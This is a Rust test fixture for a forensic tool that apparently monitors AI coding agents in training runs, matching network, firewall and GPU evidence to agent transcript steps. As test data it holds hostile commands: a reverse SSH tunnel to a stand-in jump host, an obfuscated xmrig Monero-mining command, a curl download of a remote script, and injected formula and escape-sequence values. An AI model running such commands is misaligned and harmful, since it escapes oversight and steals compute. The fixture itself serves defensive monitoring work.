//! A hand-built analysis for the tests of reports: four sources, two findings, hostile names among them.

use crate::correlate::stability::{Found, Setting, Stability, Without};
use crate::correlate::*;
use crate::evidence::{Anomaly, AnomalyKind, EvidenceId, Record};
use crate::formats::Kind;
use crate::intake::{Ledger, Source, Unread};
use crate::model::{Behaviour, Confidence, Flow, Protocol, Signal, SignalSource};
use crate::time::{Basis, Instant, SECOND, Span, YearSource};

/// 2026-11-20T14:13:46Z.
pub(crate) const START: Instant = Instant(1_795_184_026 * SECOND);

pub(crate) fn at(tenths: i64) -> Instant {
    START.plus(tenths * SECOND / 10)
}

fn span(from: i64, to: i64) -> Option<Span> {
    Some(Span { lo: at(from), hi: at(to), basis: Basis::ExplicitOffset })
}

pub(crate) fn source(path: &str, format: Option<&'static str>, kind: Option<Kind>, records: u64) -> Source {
    Source {
        path: path.to_owned(),
        sha256: format!("{:02x}", records % 256).repeat(32),
        bytes: records * 100,
        format,
        kind,
        compression: "",
        record_unit: match kind {
            Some(Kind::Capture) => "packet",
            Some(Kind::Gpu) => "row",
            _ => "line",
        },
        reason: "its magic number".to_owned(),
        runner_up: None,
        records,
        unread: 0,
        unread_reasons: Vec::new(),
        first: Some(START),
        last: Some(at(1000)),
        basis: Some(Basis::ExplicitOffset),
        declared_zone: false,
        declared_offset_ns: 0,
        year: YearSource::Unknown,
        boots: Vec::new(),
        failure: None,
    }
}

fn clock(name: &str, sources: &[u32], grade: Grade) -> Clock {
    Clock {
        name: name.to_owned(),
        sources: sources.iter().map(|id| EvidenceId(*id)).collect(),
        basis: Basis::ExplicitOffset,
        reference: false,
        offset_ns: 0,
        support_ns: (0, 0),
        zone_error_ns: 0,
        grade,
        pairs: 0,
        inliers: 0,
        peak_ratio: 0.0,
        runner_up_ns: None,
        segments: Vec::new(),
        untied: Vec::new(),
        utc: None,
        writers: None,
        points: Vec::new(),
        points_of: 0,
        method: "keyed interval voting on address+port".to_owned(),
        notes: Vec::new(),
    }
}

fn record(evidence: u32, number: u64) -> Record {
    Record { evidence: EvidenceId(evidence), number }
}

fn step(index: u32, line: u64, from: i64, to: i64, command: &str) -> StepRef {
    StepRef {
        episode: "ep-001".to_owned(),
        index,
        record: record(3, line),
        tool: "Bash".to_owned(),
        command: Some(command.to_owned()),
        span: span(from, to),
    }
}

fn term(term: &'static str, observed: &str, log10_lr: f64, counts: &str, cap: &str, records: Vec<Record>) -> Term {
    Term { term, observed: observed.to_owned(), log10_lr, counts: counts.to_owned(), cap: cap.to_owned(), records }
}

fn rivals() -> Vec<Rival> {
    let cell = |observable: &str, log10_p, judged| RivalCell { observable: observable.to_owned(), log10_p, judged };
    let rows = |literal: f64, idle: f64| vec![cell(LITERAL, literal, false), cell(IDLE, idle, true)];
    vec![
        Rival { hypothesis: RivalId::Agent, log10_lr: 0.0, rows: rows(-0.02, -0.1), inconsistent: 0 },
        Rival { hypothesis: RivalId::ExternalCompromise, log10_lr: -3.1, rows: rows(-3.1, -0.12), inconsistent: 1 },
    ]
}

const LITERAL: &str = "the peer's address stands in the agent's own words before the event";
const IDLE: &str = "onsets while no step ran";

fn judgement() -> Judgement {
    let row = |id, observable: &str, counts: &str, spread, counts_in, leader_without| RivalRow {
        id,
        observable: observable.to_owned(),
        counts: counts.to_owned(),
        spread,
        counts_in,
        leader_without,
    };
    Judgement {
        rows: vec![
            row("literal-in-agent-text", LITERAL, "in 0 of 8 412 benign commands", 3.08, true, "undecided"),
            row("outside-of-steps", IDLE, "", 0.02, true, "agent"),
            row("other-hosts", "no host without agents does the same", "", 0.01, false, "agent"),
        ],
        overturned_without: vec!["literal-in-agent-text"],
        overturning_sets: 1,
        missing: vec![MissingRow { source: "the host's auth log".to_owned(), expected_spread: 0.7 }],
        withheld: None,
    }
}

pub(crate) fn analysis() -> Analysis {
    let mut firewall = source("firewall.log", Some("iptables"), Some(Kind::Firewall), 28);
    firewall.basis = Some(Basis::AssumedYear);
    firewall.unread = 2;
    firewall.unread_reasons = vec![Unread {
        reason: "no IPTABLES fields".to_owned(),
        count: 2,
        first_record: 7,
        example: "\x1b[2Jjunk".to_owned(),
    }];
    let sources = vec![
        source("capture.pcap", Some("pcap"), Some(Kind::Capture), 1204),
        firewall,
        source("gpu.csv", Some("nvidia-smi-query"), Some(Kind::Gpu), 196),
        source("transcripts/ep-001.jsonl", Some("claude-code"), Some(Kind::Transcript), 22),
        source("transcripts/ep-002.jsonl", Some("claude-code"), Some(Kind::Transcript), 22),
    ];
    let reference = Clock { reference: true, method: "reference".to_owned(), ..clock("capture.pcap", &[0], Grade::A) };
    let firewall_clock = Clock {
        basis: Basis::AssumedYear,
        offset_ns: -600_000_000,
        support_ns: (-900_000_000, -200_000_000),
        pairs: 9,
        inliers: 8,
        peak_ratio: 0.125,
        runner_up_ns: Some(28_799_400_000_000),
        notes: vec!["year 2026 from the capture".to_owned()],
        ..clock("firewall.log", &[1], Grade::B)
    };
    let gpu_clock = Clock {
        basis: Basis::AssumedZone,
        method: "assumed".to_owned(),
        notes: vec!["zone assumed UTC".to_owned()],
        ..clock("gpu.csv", &[2], Grade::D)
    };
    let transcript_clock = Clock {
        offset_ns: -100_000_000,
        support_ns: (-300_000_000, 200_000_000),
        pairs: 12,
        inliers: 12,
        ..clock("transcripts/", &[3, 4], Grade::A)
    };
    let signal = |id: &str, behaviour, kind: &str, dst: [u8; 4], port, summary: &str| Signal {
        id: id.to_owned(),
        behaviour,
        kind: kind.to_owned(),
        confidence: Confidence::Certain,
        span: span(300, 750),
        flow: Some(Flow {
            src: Some([10, 20, 0, 5].into()),
            src_port: Some(50012),
            dst: Some(dst.into()),
            dst_port: Some(port),
            protocol: Some(Protocol::TCP),
        }),
        host: None,
        rule: None,
        summary: summary.to_owned(),
        domains: vec!["jump.example".to_owned()],
        targets: Vec::new(),
        records: vec![record(0, 88)],
        source: SignalSource::Network,
    };
    let finding = |id: &str, behaviour: Behaviour, step: StepRef, signal: &str, summary: &str| Finding {
        id: id.to_owned(),
        behaviour,
        episode: "ep-001".to_owned(),
        run: Some("run-a".to_owned()),
        steps: vec![step],
        signals: vec![signal.to_owned()],
        strength: Strength {
            log10_lr: 6.0,
            words: "very strong",
            terms: vec![
                term(
                    "indicator",
                    "203.0.113.66 in step 4",
                    3.900_000_000_000_000_4,
                    "n_v=0 N=8412",
                    "N+1",
                    vec![record(3, 11), record(0, 88)],
                ),
                term("lag", "0.9 s (clock ±0.4 s)", 0.8, "anchors 46", "", vec![record(0, 88)]),
            ],
            p_none: 0.000_001,
            p_step: 0.999_999,
        },
        initiator: "agent",
        rivals: rivals(),
        judgement: judgement(),
        attack: behaviour.attack().to_vec(),
        atlas: behaviour.atlas().to_vec(),
        owasp: behaviour.owasp().to_vec(),
        level: "high",
        summary: summary.to_owned(),
        persistence: None,
        would_decide: vec!["the host's auth log".to_owned()],
        limits: vec!["capture covers 60 % of the episode".to_owned()],
        stability: (behaviour == Behaviour::Mining).then(stability),
        first: Some(at(300)),
        last: Some(at(750)),
    };
    let episode = |name: &str, config: &str, findings: &[&str]| EpisodeRow {
        name: name.to_owned(),
        run: Some("run-a".to_owned()),
        reward_config: Some(config.to_owned()),
        reward: Some(0.5),
        agent: Some("claude-code 2.0".to_owned()),
        model: None,
        host: Some("train-07".to_owned()),
        host_basis: "declared".to_owned(),
        path: format!("transcripts/{name}.jsonl"),
        steps: 5,
        first: Some(START),
        last: Some(at(900)),
        findings: findings.iter().map(|id| (*id).to_owned()).collect(),
    };
    let rate = |group, name: &str, flagged, episodes, interval| ConfigRate {
        group,
        name: name.to_owned(),
        behaviour: None,
        flagged,
        episodes,
        interval,
        onsets: 2 * flagged,
        hours: Some(0.25 * f64::from(episodes)),
        per_hour: (flagged > 0).then_some((0.97, 28.9)),
        first_step: (flagged > 0).then_some(4.0),
        first_after_s: (flagged > 0).then_some(30.0),
        missing: None,
        worst: None,
    };
    let test = |onsets, in_window, expected, p| AlignmentTest { onsets, in_window, expected, p };
    Analysis {
        gpu: vec![GpuTrace {
            name: "gpu.csv 1".to_owned(),
            points: (0..10)
                .map(|n| GpuTracePoint {
                    at: at(n * 100),
                    power_w: Some(100.0 + n as f32),
                    utilization_percent: Some(50.0),
                    memory_used_mib: None,
                })
                .collect(),
            points_of: 10,
        }],
        sources,
        clocks: vec![reference, firewall_clock, gpu_clock, transcript_clock],
        signals: vec![
            signal(
                "S-0001",
                Behaviour::Tunnel,
                "ssh-reverse",
                [203, 0, 113, 66],
                443,
                "SSH on port 443, 1 inbound session",
            ),
            signal("S-0002", Behaviour::Mining, "monero-login", [198, 51, 100, 23], 3333, "9 shares in 45 s"),
        ],
        findings: vec![
            finding(
                "F-0001",
                Behaviour::Tunnel,
                step(4, 11, 290, 310, "ssh -f -N -R 2222:localhost:22 jump.example -p 443"),
                "S-0001",
                "ssh -R … jump.example:443 → 203.0.113.66:443: SSH, remote forward asked for",
            ),
            finding(
                "F-0002",
                Behaviour::Mining,
                step(5, 14, 280, 320, "=xmrig -o pool\u{202e}.example:3333\x1b[2J"),
                "S-0002",
                "… -o pool.example:3333 → Monero login, 9 shares, 45 s",
            ),
        ],
        unexplained: vec![Unexplained {
            behaviour: Behaviour::Probing,
            signals: vec!["S-0003".to_owned()],
            leading: "external-compromise",
            rivals: rivals(),
            judgement: judgement(),
            summary: "40 ports of 10.30.0.20 in 2.0 s".to_owned(),
            would_decide: vec!["the jump host's auth log".to_owned()],
        }],
        uncovered: vec![UncoveredStep {
            behaviour: Behaviour::Download,
            step: step(2, 6, 100, 120, "curl -O http://198.51.100.7/x.sh"),
            rule: "command-download".to_owned(),
            coverage: "no telemetry covers this time".to_owned(),
        }],
        episodes: vec![episode("ep-001", "resource-bonus", &["F-0001", "F-0002"]), episode("ep-002", "task-only", &[])],
        conversations: Ledger::from(vec![ConversationRow {
            evidence: EvidenceId(0),
            first: at(300),
            last: at(750),
            src: Some([10, 20, 0, 5].into()),
            dst: Some([203, 0, 113, 66].into()),
            dst_port: Some(443),
            protocol: Some(Protocol::TCP),
            domains: vec!["@SUM(A1).example".to_owned()],
            observations: 400,
            connections: 1,
            allowed: 0,
            denied: 0,
            bytes_out: Some(52_000),
            bytes_in: None,
            packets_out: None,
            packets_in: None,
            first_record: 88,
            signals: vec!["S-0001".to_owned()],
            step: Some(("ep-001".to_owned(), 4, 6.0)),
            beacon_score: None,
        }]),
        attributions: Vec::new(),
        alignment: Some(Alignment {
            test: test(9, 9, 0.2, 3e-6),
            at_gaps: vec![("gap/3".to_owned(), test(12, 12, 0.3, 3e-5))],
            positive_control: Some(test(48, 46, 9.0, 1e-20)),
            negative_exposure: Some(test(9, 1, 0.9, 0.61)),
            negative_outcome: Some(test(9, 2, 1.7, 0.33)),
            jitter_ns: 120 * SECOND,
            window_ns: (400_000_000, 6_400_000_000),
            duty_cycle: 0.182,
            withheld: None,
            sentences: Vec::new(),
        }),
        rates: vec![
            rate("reward-config", "resource-bonus", 1, 1, (0.025, 1.0)),
            rate("reward-config", "task-only", 0, 1, (0.0, 0.975)),
            rate("run", "run-a", 1, 2, (0.0126, 0.9874)),
        ],
        recurrence: vec![Recurrence {
            question: "dispersion over runs",
            behaviour: None,
            units: 2,
            onsets: 2,
            exposure: "hours",
            value: None,
            p: None,
            smallest: Some(0.5),
            phi: None,
            words: "not asked: no outcome of 2 onsets over 2 runs gives a P below 0.50".to_owned(),
        }],
        preceding: vec![Preceding {
            behaviour: Behaviour::Mining,
            what: "program nvidia-smi".to_owned(),
            before: 3,
            of: 3,
            others_with: 0,
            others: 5,
            p: 0.017_857,
            adjusted: 0.035_714,
        }],
        anomalies: vec![EvidenceAnomaly {
            evidence: EvidenceId(0),
            anomaly: Anomaly {
                record: 1204,
                kind: AnomalyKind::TruncatedRecord,
                detail: "1514 bytes announced, 20 left".to_owned(),
            },
            of: 1,
        }],
        limits: vec!["the capture covers 60 % of the time of the episodes".to_owned()],
    }
}

/// Found without the firewall's log, lost without the capture.
fn stability() -> Stability {
    let without = |name: &str, at: u32, found: Option<f64>| Without {
        name: name.to_owned(),
        sources: vec![EvidenceId(at)],
        witness: found.is_none(),
        found: found.map(|log10_lr| Found { log10_lr, initiator: "agent", same_steps: true }),
    };
    Stability {
        by: "source",
        without: vec![without("capture.pcap", 0, None), without("firewall.log", 1, Some(5.5))],
        settings: vec![Setting {
            name: "session gap 5 min".to_owned(),
            p: 0.000_03,
            aligned: Some(true),
            initiator: "agent",
        }],
        log10_lr: (5.5, 6.0),
        rests_on: vec!["capture.pcap".to_owned()],
        sentences: vec!["Rests on capture.pcap alone.".to_owned()],
    }
}
